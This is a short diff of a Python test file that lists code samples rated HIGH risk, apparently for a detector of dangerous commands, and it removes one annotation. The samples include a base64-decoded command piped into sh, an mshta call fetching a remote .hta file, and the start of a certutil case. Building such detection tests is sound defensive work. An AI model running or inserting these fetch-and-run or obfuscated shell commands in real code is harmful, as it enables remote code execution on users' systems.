@@ -99,8 +99,7 @@ PROGRAMS = (
     Case("a shell that decodes", HIGH, """
         import os
         os.system("echo aWQ= | base64 -d | sh")
-    """,
-         unseen="what a shell decodes and runs is not looked into"),
+    """),
     Case("mshta", HIGH, "import os\nos.system('mshta https://example.invalid/a.hta')\n"),
     Case("certutil", HIGH, """
         import os
